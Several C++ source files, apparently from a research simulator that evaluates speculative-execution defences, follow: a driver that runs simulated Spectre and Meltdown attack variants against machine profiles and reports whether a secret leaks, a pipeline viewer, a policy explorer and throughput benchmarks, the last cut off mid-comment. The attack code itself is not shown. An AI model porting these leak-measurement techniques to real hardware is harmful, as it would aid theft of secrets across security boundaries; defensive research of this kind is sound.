        " * under PERMISSIVE, non-load ops broadcast ('b'), so the\n"
        "   address computation proceeds; only loads are held at "
        "'c'\n"
        " * under LOAD RESTRICTION, loads wait for the ROB head even\n"
        "   without any branch in flight\n");
    return 0;
}
