/**
 * @file
 * End-to-end Spectre demonstration: run any of the implemented attack
 * PoCs against any machine profile and watch the covert channel leak
 * (or not). Defaults to Spectre v1 (cache channel) with secret 0xA5.
 *
 *   ./build/examples/spectre_demo [attack] [profile-index] [secret]
 *
 * Attacks: spectre-v1-cache spectre-v1-btb spectre-v2 ret2spec
 *          spectre-v4-ssb spectre-gpr meltdown lazyfp-v3a
 * Profiles: 0=OoO 1=Permissive 2=Permissive+BR 3=Strict 4=Strict+BR
 *           5=Restricted Loads 6=Full Protection 7=In-Order
 *           8=InvisiSpec-Spectre 9=InvisiSpec-Future
 */

#include <cstdio>
#include <cstdlib>

#include "attacks/attack_registry.hh"
#include "harness/profiles.hh"
#include "harness/table_printer.hh"

using namespace nda;

int
main(int argc, char **argv)
{
    const std::string attack_name =
        argc > 1 ? argv[1] : "spectre-v1-cache";
    const int profile_idx = argc > 2 ? std::atoi(argv[2]) : 0;
    const std::uint8_t secret =
        argc > 3 ? static_cast<std::uint8_t>(std::atoi(argv[3])) : 0xA5;

    auto attack = makeAttack(attack_name);
    if (!attack) {
        std::fprintf(stderr, "unknown attack '%s'\n",
                     attack_name.c_str());
        return 2;
    }
    if (profile_idx < 0 ||
        profile_idx >= static_cast<int>(Profile::kNumProfiles)) {
        std::fprintf(stderr, "profile index out of range\n");
        return 2;
    }
    const SimConfig cfg =
        makeProfile(static_cast<Profile>(profile_idx));

    std::printf("attack : %s (%s, %s channel)\n",
                attack->name().c_str(),
                attack->isChosenCode() ? "chosen-code"
                                       : "control-steering",
                attack->channel().c_str());
    std::printf("machine: %s\n", cfg.name.c_str());
    std::printf("secret : 0x%02X (%d)\n\n", secret, secret);

    const AttackResult r = attack->run(cfg, secret);

    std::printf("per-guess timings (around the secret):\n");
    for (int g = std::max(0, secret - 3);
         g <= std::min(255, secret + 3); ++g) {
        std::printf("  guess %3d: %6.0f cycles%s\n", g, r.timings[g],
                    g == secret ? "   <-- secret" : "");
    }
    std::printf("\nfastest guess : %d (%.0f cycles)\n", r.fastestGuess,
                r.timings[r.fastestGuess]);
    std::printf("leak signal   : %.1f cycles (threshold %.1f, "
                "margin %+.1f)\n",
                r.signal, r.threshold, r.margin);
    std::printf("timing verdict: %s\n",
                r.leaked() ? "SECRET LEAKED" : "blocked");
    std::printf("attack took   : %llu simulated cycles\n",
                static_cast<unsigned long long>(r.cycles));

    // The DIFT oracle explains *why*: where the secret entered the
    // pipeline and which persistent structure the wrong path wrote.
    std::printf("\noracle verdict: %s\n",
                r.oracle.leaked() ? "SECRET FLOW DETECTED"
                                  : "no secret flow");
    if (r.oracle.leaked()) {
        const LeakEvent &ev = r.oracle.first();
        std::printf("first leak    : cycle %llu, %s %s at pc %llu "
                    "(access at pc %llu)\n",
                    static_cast<unsigned long long>(
                        r.oracle.firstLeakCycle()),
                    leakChannelName(ev.channel), ev.detail,
                    static_cast<unsigned long long>(ev.transmitPc),
                    static_cast<unsigned long long>(ev.accessPc));
        std::printf("secret flows  :\n%s",
                    r.oracle.describe().c_str());
    }
    std::printf("agreement     : timing and oracle %s\n",
                r.leaked() == r.oracle.leaked() ? "AGREE"
                                                : "DISAGREE (!!)");
    return 0;
}
