/**
 * @file
 * Pipeline viewer: trace a short run of any workload under any
 * profile and print the instruction waterfall. The NDA effect is
 * directly visible as the gap between the `c` (complete) and `b`
 * (broadcast) columns on unsafe instructions.
 *
 *   ./build/examples/pipeline_viewer [workload] [profile-index] [rows]
 */

#include <cstdio>
#include <cstdlib>

#include "core/ooo_core.hh"
#include "debug/pipe_trace.hh"
#include "harness/profiles.hh"
#include "workloads/workload.hh"

using namespace nda;

int
main(int argc, char **argv)
{
    const std::string workload_name =
        argc > 1 ? argv[1] : "gametree";
    const int profile_idx = argc > 2 ? std::atoi(argv[2]) : 3; // Strict
    const auto rows =
        argc > 3 ? static_cast<std::size_t>(std::atoi(argv[3])) : 40;

    auto workload = makeWorkload(workload_name);
    if (!workload) {
        std::fprintf(stderr, "unknown workload '%s'\n",
                     workload_name.c_str());
        return 2;
    }
    if (profile_idx < 0 ||
        profile_idx >= static_cast<int>(Profile::kNumProfiles) ||
        static_cast<Profile>(profile_idx) == Profile::kInOrder) {
        std::fprintf(stderr,
                     "profile index out of range (in-order core has "
                     "no pipeline to trace)\n");
        return 2;
    }
    const SimConfig cfg =
        makeProfile(static_cast<Profile>(profile_idx));

    const Program prog = workload->build(1);
    OooCore core(prog, cfg);
    // Warm up past cold caches, then attach the trace.
    core.run(20'000, ~Cycle{0});
    PipeTrace trace(2048);
    core.setRetireHook(trace.hook());
    core.run(600, ~Cycle{0});

    std::printf("workload %s on %s — %zu instructions traced\n\n",
                workload->name().c_str(), cfg.name.c_str(),
                trace.records().size());
    std::printf("%s", trace.render(0, rows).c_str());
    std::printf("\nU = instruction was NDA-unsafe at some point; the "
                "distance from 'c'\nto 'b' on those rows is the "
                "deferred tag broadcast (paper Fig 2).\n");
    return 0;
}
