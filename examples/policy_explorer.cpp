/**
 * @file
 * Policy explorer: run any workload kernel under any combination of
 * NDA knobs and print the full statistics panel — the tool you reach
 * for when exploring the security/performance design space beyond the
 * six named policies (paper §5's "design space of NDA variants").
 *
 *   ./build/examples/policy_explorer [workload] [options]
 *     --propagation=none|permissive|strict
 *     --br                 enable Bypass Restriction
 *     --load-restriction   enable load restriction
 *     --bcast-delay=N      extra NDA broadcast latency (Fig 9e)
 *     --invisispec=off|spectre|future
 *     --inorder            use the in-order baseline core
 *     --insts=N            measured instructions (default 100000)
 */

#include <cstdio>
#include <cstring>
#include <string>

#include "harness/runner.hh"
#include "harness/table_printer.hh"

using namespace nda;

int
main(int argc, char **argv)
{
    std::string workload_name = "mixed";
    SimConfig cfg;
    cfg.name = "custom";
    SampleParams sp;

    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        if (arg.rfind("--", 0) != 0) {
            workload_name = arg;
        } else if (arg == "--br") {
            cfg.security.bypassRestriction = true;
        } else if (arg == "--load-restriction") {
            cfg.security.loadRestriction = true;
        } else if (arg == "--inorder") {
            cfg.inOrder = true;
        } else if (arg.rfind("--propagation=", 0) == 0) {
            const std::string v = arg.substr(14);
            cfg.security.propagation =
                v == "strict"       ? NdaPolicy::kStrict
                : v == "permissive" ? NdaPolicy::kPermissive
                                    : NdaPolicy::kNone;
        } else if (arg.rfind("--invisispec=", 0) == 0) {
            const std::string v = arg.substr(13);
            cfg.security.invisiSpec =
                v == "spectre"  ? InvisiSpecMode::kSpectre
                : v == "future" ? InvisiSpecMode::kFuture
                                : InvisiSpecMode::kOff;
        } else if (arg.rfind("--bcast-delay=", 0) == 0) {
            cfg.security.extraBroadcastDelay =
                static_cast<unsigned>(std::stoul(arg.substr(14)));
        } else if (arg.rfind("--insts=", 0) == 0) {
            sp.measureInsts = std::stoull(arg.substr(8));
        } else {
            std::fprintf(stderr, "unknown option %s\n", arg.c_str());
            return 2;
        }
    }

    auto workload = makeWorkload(workload_name);
    if (!workload) {
        std::fprintf(stderr, "unknown workload '%s'; available:\n",
                     workload_name.c_str());
        for (const auto &w : makeAllWorkloads())
            std::fprintf(stderr, "  %-10s (%s)\n", w->name().c_str(),
                         w->specAnalog().c_str());
        return 2;
    }

    std::printf("workload : %s (substitutes %s)\n",
                workload->name().c_str(),
                workload->specAnalog().c_str());
    std::printf("security : %s%s\n", describe(cfg.security).c_str(),
                cfg.inOrder ? " (in-order core)" : "");

    const WindowStats s = runWindow(*workload, cfg, 1, sp);

    TablePrinter t({"metric", "value"});
    t.addRow({"CPI", TablePrinter::fmt(s.cpi, 3)});
    t.addRow({"IPC", TablePrinter::fmt(1.0 / s.cpi, 3)});
    t.addRow({"MLP", TablePrinter::fmt(s.mlp, 2)});
    t.addRow({"ILP", TablePrinter::fmt(s.ilp, 2)});
    t.addRow({"dispatch-to-issue (cycles)",
              TablePrinter::fmt(s.dispatchToIssue, 1)});
    t.addRow({"branch mispredict rate",
              TablePrinter::pct(s.condMispredictRate)});
    t.addRow({"commit cycles", TablePrinter::pct(s.commitFrac)});
    t.addRow({"memory-stall cycles",
              TablePrinter::pct(s.memStallFrac)});
    t.addRow({"backend-stall cycles",
              TablePrinter::pct(s.backendStallFrac)});
    t.addRow({"frontend-stall cycles",
              TablePrinter::pct(s.frontendStallFrac)});
    t.addRow({"instructions", std::to_string(s.instructions)});
    t.addRow({"cycles", std::to_string(s.cycles)});
    t.print();
    return 0;
}
