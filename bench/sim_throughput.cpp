/**
 * @file
 * Simulator-throughput microbenchmark: reports KIPS (simulated
 * kilo-instructions per host-second) per machine profile, MIPS for
 * the predecoded architectural interpreter (the fast-forward engine),
 * plus the aggregate harness throughput with `--jobs` concurrent
 * windows, and writes BENCH_throughput.json so the performance
 * trajectory of the core hot path is tracked from PR to PR.
 *
 * Per-profile numbers are measured serially (one window at a time) so
 * they isolate single-core simulation speed; the harness number runs
 * the same windows through runGrid() on the pool.
 *
 * `--engine=interp` measures only the interpreter (the CI perf-smoke
 * path), and `--min-interp-mips=N` turns the bare-interpreter number
 * into a pass/fail floor.
 */

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <string>
#include <vector>

#include "bench_common.hh"
#include "branch/predictor_unit.hh"
#include "harness/csv.hh"
#include "harness/table_printer.hh"
#include "isa/interpreter.hh"
#include "mem/hierarchy.hh"
#include "obs/stats_schema.hh"

using namespace nda;

namespace {

using Clock = std::chrono::steady_clock;

double
secondsSince(Clock::time_point t0)
{
    return std::chrono::duration<double>(Clock::now() - t0).count();
}

struct ProfileKips {
    Profile profile;
    std::uint64_t instructions = 0;
    double seconds = 0.0;
    double kips() const { return instructions / seconds / 1000.0; }
};

/** One interpreter configuration's aggregate throughput. */
struct InterpMips {
    const char *mode = "";
    std::uint64_t instructions = 0;
    double seconds = 0.0;
    WarmingWork warm;
    double mips() const { return instructions / seconds / 1e6; }
};

/**
 * Run every workload for `insts_each` functional instructions on a
 * fresh interpreter and report aggregate host throughput.
 * `warm` attaches a default-geometry hierarchy + predictor (the grid
 * fast-forward configuration); `step_loop` drives the legacy
 * switch-dispatched step() oracle instead of the threaded run() loop,
 * giving the before/after comparison on identical work.
 */
InterpMips
measureInterp(const std::vector<std::unique_ptr<Workload>> &workloads,
              std::uint64_t seed, std::uint64_t insts_each, bool warm,
              bool step_loop)
{
    InterpMips r;
    r.mode = step_loop ? "interp-step" : warm ? "interp+warm" : "interp";
    const auto t0 = Clock::now();
    for (const auto &w : workloads) {
        const Program prog = w->build(seed);
        Interpreter interp(prog);
        MemHierarchy hier{HierarchyParams{}};
        PredictorUnit bp{PredictorParams{}};
        if (warm)
            interp.attachWarming(&hier, &bp);
        if (step_loop) {
            const std::uint64_t start = interp.instCount();
            while (!interp.halted() &&
                   interp.instCount() - start < insts_each)
                interp.step();
            r.instructions += interp.instCount() - start;
        } else {
            r.instructions += interp.run(insts_each);
        }
        r.warm += interp.warmingWork();
    }
    r.seconds = secondsSince(t0);
    return r;
}

} // namespace

int
main(int argc, char **argv)
{
    BenchObs obs;
    BenchCkpt ckpt;
    SampleParams sp = parseSampleArgs(
        argc, argv,
        {"--json=", "--stats-schema", "--engine=",
         "--min-interp-mips=", BenchCkpt::kUsageDir,
         BenchCkpt::kUsageMaxBytes, BenchCkpt::kUsageNoCkpt},
        &obs, &ckpt);
    std::string json_path = "BENCH_throughput.json";
    std::string engine = "all";
    double min_interp_mips = 0.0;
    bool quick = false;
    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        if (arg.rfind("--json=", 0) == 0)
            json_path = arg.substr(7);
        if (arg.rfind("--engine=", 0) == 0)
            engine = arg.substr(9);
        if (arg.rfind("--min-interp-mips=", 0) == 0) {
            char *end = nullptr;
            min_interp_mips = std::strtod(arg.c_str() + 18, &end);
            if (end == arg.c_str() + 18 || *end != '\0' ||
                min_interp_mips < 0.0) {
                std::fprintf(stderr, "%s: bad --min-interp-mips value "
                             "'%s'\n", argv[0], arg.c_str() + 18);
                return 2;
            }
        }
        if (arg == "--quick")
            quick = true;
        if (arg == "--stats-schema") {
            // Print the canonical stat-name schema and exit; CI diffs
            // this against tests/golden/stats_schema.txt.
            for (const std::string &name : canonicalStatsSchema())
                std::printf("%s\n", name.c_str());
            return 0;
        }
    }
    if (engine != "all" && engine != "interp") {
        std::fprintf(stderr,
                     "%s: unknown engine '%s' (expected all or "
                     "interp)\n",
                     argv[0], engine.c_str());
        return 2;
    }
    const bool run_cores = engine == "all";
    // One window per (workload, profile): this measures host-side
    // simulation speed, not simulated statistics, so samples add
    // nothing but wall-clock.
    sp.samples = 1;

    printBanner("Simulator throughput (KIPS = simulated kilo-insts "
                "per host-second)");

    // A branch-heavy, a memory-bound, and an ILP-rich kernel: the mix
    // exercises every pipeline structure without running the full
    // 16-kernel suite.
    const std::vector<std::string> names{"compute", "branchy",
                                         "ptrchase", "mixed"};
    std::vector<std::unique_ptr<Workload>> workloads;
    for (const std::string &n : names)
        workloads.push_back(makeWorkload(n));

    // Interpreter throughput: bare (checkpoint placement), with
    // functional warming attached (the grid fast-forward engine), and
    // through the legacy step() oracle as the dispatch baseline.
    const std::uint64_t interp_each =
        quick ? 1'000'000ull : 4'000'000ull;
    ScopedTimer interp_timer(obs.timings, "interpreter");
    const InterpMips interp_bare =
        measureInterp(workloads, sp.baseSeed, interp_each, false, false);
    const InterpMips interp_warm = measureInterp(
        workloads, sp.baseSeed, interp_each / 4, true, false);
    const InterpMips interp_step = measureInterp(
        workloads, sp.baseSeed, interp_each / 8, false, true);
    interp_timer.stop();
    {
        TablePrinter itable({"engine", "sim insts", "host sec", "MIPS"});
        for (const InterpMips *r :
             {&interp_bare, &interp_warm, &interp_step}) {
            itable.addRow({r->mode, std::to_string(r->instructions),
                           TablePrinter::fmt(r->seconds, 3),
                           TablePrinter::fmt(r->mips(), 1)});
        }
        itable.print();
        std::printf("threaded run() vs step() oracle: %.1fx\n",
                    interp_bare.mips() / interp_step.mips());
    }

    std::vector<ProfileKips> results;
    double grid_seconds = 0.0;
    std::uint64_t grid_insts = 0;
    double grid_kips = 0.0;
    double legacy_seconds = 0.0;
    double reuse_seconds = 0.0;
    double reuse_speedup = 0.0;
    GridStats legacy_stats;
    GridStats reuse_stats;
    SampleParams ab = sp;
    std::size_t ab_workload_count = 0;
    std::vector<SimConfig> configs;
    // Warm-corpus A/B (chained sampling, persistent CheckpointStore).
    SampleParams corpus_ab = sp;
    double nocorpus_seconds = 0.0;
    double cold_seconds = 0.0;
    double warm_seconds = 0.0;
    double warm_speedup = 0.0;
    bool corpus_identical = false;
    GridStats nocorpus_stats;
    GridStats cold_stats;
    GridStats warm_stats;

    if (run_cores) {
        const auto profiles = allProfiles();
        TablePrinter table({"profile", "sim insts", "host sec", "KIPS"});
        ScopedTimer serial_timer(obs.timings, "per-profile-serial");
        for (Profile p : profiles) {
            ProfileKips r{p};
            const SimConfig cfg = makeProfile(p);
            const auto t0 = Clock::now();
            for (const auto &w : workloads) {
                const WindowStats s = runWindow(*w, cfg, sp.baseSeed, sp);
                // Warm-up instructions are simulated work too.
                r.instructions += s.instructions + sp.warmupInsts;
            }
            r.seconds = secondsSince(t0);
            results.push_back(r);
            table.addRow({profileName(p),
                          std::to_string(r.instructions),
                          TablePrinter::fmt(r.seconds, 2),
                          TablePrinter::fmt(r.kips(), 1)});
        }
        serial_timer.stop();
        table.print();

        // Aggregate harness throughput: the same grid through the pool.
        for (Profile p : profiles)
            configs.push_back(makeProfile(p));
        const auto t0 = Clock::now();
        ScopedTimer grid_timer(obs.timings, "harness-grid");
        const std::vector<RunResult> grid =
            runGrid(workloads, configs, sp);
        grid_timer.stop();
        grid_seconds = secondsSince(t0);
        for (const RunResult &r : grid)
            grid_insts += r.mean.instructions +
                          sp.warmupInsts * sp.samples;
        grid_kips = grid_insts / grid_seconds / 1000.0;
        std::printf("\nHarness aggregate (--jobs=%u): %llu insts in "
                    "%.2fs = %.1f KIPS\n",
                    sp.jobs,
                    static_cast<unsigned long long>(grid_insts),
                    grid_seconds, grid_kips);

        // Checkpoint-reuse A/B: the same multi-profile sweep with a
        // dominant fast-forward, legacy (rebuild per window) vs shared
        // checkpoints. Fixed at --jobs=2 so the comparison measures
        // work eliminated, not how much idle hardware can hide the
        // extra fast-forwards.
        ab.fastforwardInsts = 500'000;
        ab.warmupInsts = 2'000;
        ab.measureInsts = 5'000;
        ab.samples = 2;
        ab.jobs = 2;
        std::vector<std::unique_ptr<Workload>> ab_workloads;
        ab_workloads.push_back(makeWorkload("compute"));
        ab_workloads.push_back(makeWorkload("branchy"));
        ab_workload_count = ab_workloads.size();

        SampleParams ab_legacy = ab;
        ab_legacy.reuseCheckpoints = false;
        const auto legacy_t0 = Clock::now();
        {
            ScopedTimer t(obs.timings, "reuse-ab-legacy");
            runGrid(ab_workloads, configs, ab_legacy, nullptr,
                    &legacy_stats);
        }
        legacy_seconds = secondsSince(legacy_t0);

        const auto reuse_t0 = Clock::now();
        {
            ScopedTimer t(obs.timings, "reuse-ab-reuse");
            runGrid(ab_workloads, configs, ab, nullptr, &reuse_stats);
        }
        reuse_seconds = secondsSince(reuse_t0);
        reuse_speedup = legacy_seconds / reuse_seconds;
        std::printf("\nGrid checkpoint reuse (%zu workloads x %zu "
                    "profiles x %u samples, %lluk ff insts, jobs=2):\n"
                    "  legacy  %llu fast-forwards, %.2fs\n"
                    "  reuse   %llu fast-forwards, %.2fs  (%.2fx, "
                    "ff %.1f MIPS)\n",
                    ab_workload_count, configs.size(), ab.samples,
                    static_cast<unsigned long long>(
                        ab.fastforwardInsts / 1000),
                    static_cast<unsigned long long>(
                        legacy_stats.ffRuns),
                    legacy_seconds,
                    static_cast<unsigned long long>(reuse_stats.ffRuns),
                    reuse_seconds, reuse_speedup,
                    reuse_stats.ffMips());

        // Warm-corpus A/B: the same chained sweep three times —
        // without a corpus, against a cold corpus (builds + publishes),
        // and against the now-warm corpus (pure loads). The chained
        // stride dominates wall-clock, so the warm run's speedup is
        // the checkpoint subsystem's whole value proposition in one
        // number; the three result sets must be bit-identical.
        corpus_ab = ab;
        corpus_ab.chainSamples = true;
        corpus_ab.fastforwardInsts = quick ? 8'000'000 : 24'000'000;
        corpus_ab.warmupInsts = 500;
        corpus_ab.measureInsts = 1'000;
        corpus_ab.samples = 2;
        std::vector<std::unique_ptr<Workload>> ab_workloads2;
        ab_workloads2.push_back(makeWorkload("compute"));
        ab_workloads2.push_back(makeWorkload("branchy"));

        const std::string corpus_dir =
            ckpt.wantCorpus() ? ckpt.dir : "nda_ckpt_ab_corpus";
        std::error_code ec;
        std::filesystem::remove_all(corpus_dir, ec); // guarantee cold

        const auto nocorpus_t0 = Clock::now();
        std::vector<RunResult> nocorpus_grid;
        {
            ScopedTimer t(obs.timings, "corpus-ab-nocorpus");
            nocorpus_grid = runGrid(ab_workloads2, configs, corpus_ab,
                                    nullptr, &nocorpus_stats);
        }
        nocorpus_seconds = secondsSince(nocorpus_t0);

        std::vector<RunResult> cold_grid;
        std::vector<RunResult> warm_grid;
        {
            CheckpointStore corpus(corpus_dir, ckpt.maxBytes);
            const auto cold_t0 = Clock::now();
            {
                ScopedTimer t(obs.timings, "corpus-ab-cold");
                cold_grid = runGrid(ab_workloads2, configs, corpus_ab,
                                    nullptr, &cold_stats, &corpus);
            }
            cold_seconds = secondsSince(cold_t0);
            const auto warm_t0 = Clock::now();
            {
                ScopedTimer t(obs.timings, "corpus-ab-warm");
                warm_grid = runGrid(ab_workloads2, configs, corpus_ab,
                                    nullptr, &warm_stats, &corpus);
            }
            warm_seconds = secondsSince(warm_t0);
        }
        warm_speedup = warm_seconds > 0.0
                           ? nocorpus_seconds / warm_seconds
                           : 0.0;
        corpus_identical =
            nocorpus_grid.size() == cold_grid.size() &&
            cold_grid.size() == warm_grid.size();
        for (std::size_t i = 0; corpus_identical &&
                                i < nocorpus_grid.size(); ++i) {
            corpus_identical =
                nocorpus_grid[i].cpiSamples == cold_grid[i].cpiSamples &&
                cold_grid[i].cpiSamples == warm_grid[i].cpiSamples;
        }
        if (!ckpt.wantCorpus())
            std::filesystem::remove_all(corpus_dir, ec);
        std::printf("\nCheckpoint corpus (chained, %zu workloads x %zu "
                    "profiles x %u samples, %lluk stride, jobs=%u):\n"
                    "  no corpus  %.2fs (%llu fast-forwards)\n"
                    "  cold       %.2fs (%llu misses published)\n"
                    "  warm       %.2fs (%llu hits, %.2fx vs no "
                    "corpus)  results %s\n",
                    ab_workloads2.size(), configs.size(),
                    corpus_ab.samples,
                    static_cast<unsigned long long>(
                        corpus_ab.fastforwardInsts / 1000),
                    corpus_ab.jobs, nocorpus_seconds,
                    static_cast<unsigned long long>(
                        nocorpus_stats.ffRuns),
                    cold_seconds,
                    static_cast<unsigned long long>(
                        cold_stats.ckptMisses),
                    warm_seconds,
                    static_cast<unsigned long long>(
                        warm_stats.ckptHits),
                    warm_speedup,
                    corpus_identical ? "bit-identical" : "DIVERGED");
    }

    std::FILE *json = std::fopen(json_path.c_str(), "w");
    if (!json) {
        NDA_WARN("cannot write %s", json_path.c_str());
        return 1;
    }
    std::fprintf(json,
                 "{\n"
                 "  \"bench\": \"sim_throughput\",\n"
                 "  \"engine\": \"%s\",\n"
                 "  \"measure_insts\": %llu,\n"
                 "  \"warmup_insts\": %llu,\n"
                 "  \"jobs\": %u,\n",
                 engine.c_str(),
                 static_cast<unsigned long long>(sp.measureInsts),
                 static_cast<unsigned long long>(sp.warmupInsts),
                 sp.jobs);
    std::fprintf(json, "  \"interpreter\": {\n");
    const InterpMips *interp_rows[] = {&interp_bare, &interp_warm,
                                       &interp_step};
    const char *interp_keys[] = {"bare", "warmed", "step"};
    for (int i = 0; i < 3; ++i) {
        const InterpMips &r = *interp_rows[i];
        std::fprintf(json,
                     "    \"%s\": {\"instructions\": %llu, "
                     "\"seconds\": %.4f, \"mips\": %.1f},\n",
                     interp_keys[i],
                     static_cast<unsigned long long>(r.instructions),
                     r.seconds, r.mips());
    }
    std::fprintf(json,
                 "    \"speedup_vs_step\": %.2f",
                 interp_bare.mips() / interp_step.mips());
    for (const ProfileKips &r : results) {
        if (r.profile == Profile::kInOrder) {
            std::fprintf(json, ",\n    \"x_inorder\": %.1f",
                         interp_bare.mips() * 1000.0 / r.kips());
            break;
        }
    }
    std::fprintf(json, "\n  }%s\n", run_cores ? "," : "");
    if (run_cores) {
        std::fprintf(json, "  \"profiles\": [\n");
        for (std::size_t i = 0; i < results.size(); ++i) {
            const ProfileKips &r = results[i];
            std::fprintf(
                json,
                "    {\"name\": \"%s\", \"instructions\": %llu, "
                "\"seconds\": %.4f, \"kips\": %.1f}%s\n",
                profileName(r.profile),
                static_cast<unsigned long long>(r.instructions),
                r.seconds, r.kips(),
                i + 1 < results.size() ? "," : "");
        }
        std::fprintf(json,
                     "  ],\n"
                     "  \"harness\": {\"jobs\": %u, \"instructions\": "
                     "%llu, \"seconds\": %.4f, \"kips\": %.1f},\n",
                     sp.jobs,
                     static_cast<unsigned long long>(grid_insts),
                     grid_seconds, grid_kips);
        std::fprintf(
            json,
            "  \"grid_checkpoint_reuse\": {\"workloads\": %zu, "
            "\"profiles\": %zu, \"samples\": %u, "
            "\"fastforward_insts\": %llu, \"jobs\": 2,\n"
            "    \"legacy_ff_runs\": %llu, \"legacy_seconds\": "
            "%.4f,\n"
            "    \"reuse_ff_runs\": %llu, \"reuse_seconds\": "
            "%.4f, \"speedup\": %.2f, \"ff_mips\": %.1f},\n",
            ab_workload_count, configs.size(), ab.samples,
            static_cast<unsigned long long>(ab.fastforwardInsts),
            static_cast<unsigned long long>(legacy_stats.ffRuns),
            legacy_seconds,
            static_cast<unsigned long long>(reuse_stats.ffRuns),
            reuse_seconds, reuse_speedup, reuse_stats.ffMips());
        std::fprintf(
            json,
            "  \"checkpoint_corpus\": {\"chained\": true, "
            "\"samples\": %u, \"stride_insts\": %llu, \"jobs\": %u,\n"
            "    \"nocorpus_seconds\": %.4f, \"cold_seconds\": %.4f, "
            "\"warm_seconds\": %.4f,\n"
            "    \"warm_speedup\": %.2f, \"cold_misses\": %llu, "
            "\"warm_hits\": %llu, \"ckpt_bytes\": %llu,\n"
            "    \"chain_len\": %llu, \"bit_identical\": %s}\n",
            corpus_ab.samples,
            static_cast<unsigned long long>(
                corpus_ab.fastforwardInsts),
            corpus_ab.jobs, nocorpus_seconds, cold_seconds,
            warm_seconds, warm_speedup,
            static_cast<unsigned long long>(cold_stats.ckptMisses),
            static_cast<unsigned long long>(warm_stats.ckptHits),
            static_cast<unsigned long long>(cold_stats.ckptBytes +
                                            warm_stats.ckptBytes),
            static_cast<unsigned long long>(warm_stats.ckptChainLen),
            corpus_identical ? "true" : "false");
    }
    std::fprintf(json, "}\n");
    std::fclose(json);
    std::printf("wrote %s\n", json_path.c_str());

    emitBenchObs(obs, "sim_throughput", Profile::kStrict, sp,
                 [&](RunManifest &m, StatsRegistry &reg) {
                     m.set("interp_bare_mips", interp_bare.mips());
                     m.set("interp_warmed_mips", interp_warm.mips());
                     m.set("interp_step_mips", interp_step.mips());
                     m.set("interp_warm_i_touches",
                           interp_warm.warm.iTouches);
                     m.set("interp_warm_d_touches",
                           interp_warm.warm.dTouches);
                     m.set("interp_warm_bp_trains",
                           interp_warm.warm.bpTrains);
                     if (run_cores) {
                         m.set("harness_kips", grid_kips);
                         m.set("harness_insts", grid_insts);
                         m.set("reuse_speedup", reuse_speedup);
                         m.set("corpus_warm_speedup", warm_speedup);
                         m.set("corpus_bit_identical",
                               corpus_identical);
                         // Warm-run stats so the manifest's
                         // harness.ckpt_* counters show corpus hits.
                         warm_stats.registerStats(reg, "harness");
                         for (const ProfileKips &r : results)
                             m.set(std::string("kips_") +
                                       profileName(r.profile),
                                   r.kips());
                     }
                 });

    if (min_interp_mips > 0.0 &&
        interp_bare.mips() < min_interp_mips) {
        std::fprintf(stderr,
                     "FAIL: interpreter throughput %.1f MIPS is below "
                     "the floor of %.1f MIPS\n",
                     interp_bare.mips(), min_interp_mips);
        return 1;
    }
    return 0;
}
