/**
 * @file
 * Simulator-throughput microbenchmark: reports KIPS (simulated
 * kilo-instructions per host-second) per machine profile, plus the
 * aggregate harness throughput with `--jobs` concurrent windows, and
 * writes BENCH_throughput.json so the performance trajectory of the
 * core hot path is tracked from PR to PR.
 *
 * Per-profile numbers are measured serially (one window at a time) so
 * they isolate single-core simulation speed; the harness number runs
 * the same windows through runGrid() on the pool.
 */

#include <chrono>
#include <cstdio>
#include <string>
#include <vector>

#include "bench_common.hh"
#include "harness/csv.hh"
#include "harness/table_printer.hh"
#include "obs/stats_schema.hh"

using namespace nda;

namespace {

using Clock = std::chrono::steady_clock;

double
secondsSince(Clock::time_point t0)
{
    return std::chrono::duration<double>(Clock::now() - t0).count();
}

struct ProfileKips {
    Profile profile;
    std::uint64_t instructions = 0;
    double seconds = 0.0;
    double kips() const { return instructions / seconds / 1000.0; }
};

} // namespace

int
main(int argc, char **argv)
{
    BenchObs obs;
    SampleParams sp = parseSampleArgs(
        argc, argv, {"--json=", "--stats-schema"}, &obs);
    std::string json_path = "BENCH_throughput.json";
    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        if (arg.rfind("--json=", 0) == 0)
            json_path = arg.substr(7);
        if (arg == "--stats-schema") {
            // Print the canonical stat-name schema and exit; CI diffs
            // this against tests/golden/stats_schema.txt.
            for (const std::string &name : canonicalStatsSchema())
                std::printf("%s\n", name.c_str());
            return 0;
        }
    }
    // One window per (workload, profile): this measures host-side
    // simulation speed, not simulated statistics, so samples add
    // nothing but wall-clock.
    sp.samples = 1;

    printBanner("Simulator throughput (KIPS = simulated kilo-insts "
                "per host-second)");

    // A branch-heavy, a memory-bound, and an ILP-rich kernel: the mix
    // exercises every pipeline structure without running the full
    // 16-kernel suite.
    const std::vector<std::string> names{"compute", "branchy",
                                         "ptrchase", "mixed"};
    std::vector<std::unique_ptr<Workload>> workloads;
    for (const std::string &n : names)
        workloads.push_back(makeWorkload(n));

    const auto profiles = allProfiles();
    std::vector<ProfileKips> results;
    TablePrinter table({"profile", "sim insts", "host sec", "KIPS"});
    ScopedTimer serial_timer(obs.timings, "per-profile-serial");
    for (Profile p : profiles) {
        ProfileKips r{p};
        const SimConfig cfg = makeProfile(p);
        const auto t0 = Clock::now();
        for (const auto &w : workloads) {
            const WindowStats s = runWindow(*w, cfg, sp.baseSeed, sp);
            // Warm-up instructions are simulated work too.
            r.instructions += s.instructions + sp.warmupInsts;
        }
        r.seconds = secondsSince(t0);
        results.push_back(r);
        table.addRow({profileName(p),
                      std::to_string(r.instructions),
                      TablePrinter::fmt(r.seconds, 2),
                      TablePrinter::fmt(r.kips(), 1)});
    }
    serial_timer.stop();
    table.print();

    // Aggregate harness throughput: the same grid through the pool.
    std::vector<SimConfig> configs;
    for (Profile p : profiles)
        configs.push_back(makeProfile(p));
    const auto t0 = Clock::now();
    ScopedTimer grid_timer(obs.timings, "harness-grid");
    const std::vector<RunResult> grid = runGrid(workloads, configs, sp);
    grid_timer.stop();
    const double grid_seconds = secondsSince(t0);
    std::uint64_t grid_insts = 0;
    for (const RunResult &r : grid)
        grid_insts += r.mean.instructions +
                      sp.warmupInsts * sp.samples;
    const double grid_kips = grid_insts / grid_seconds / 1000.0;
    std::printf("\nHarness aggregate (--jobs=%u): %llu insts in %.2fs "
                "= %.1f KIPS\n",
                sp.jobs, static_cast<unsigned long long>(grid_insts),
                grid_seconds, grid_kips);

    // Checkpoint-reuse A/B: the same multi-profile sweep with a
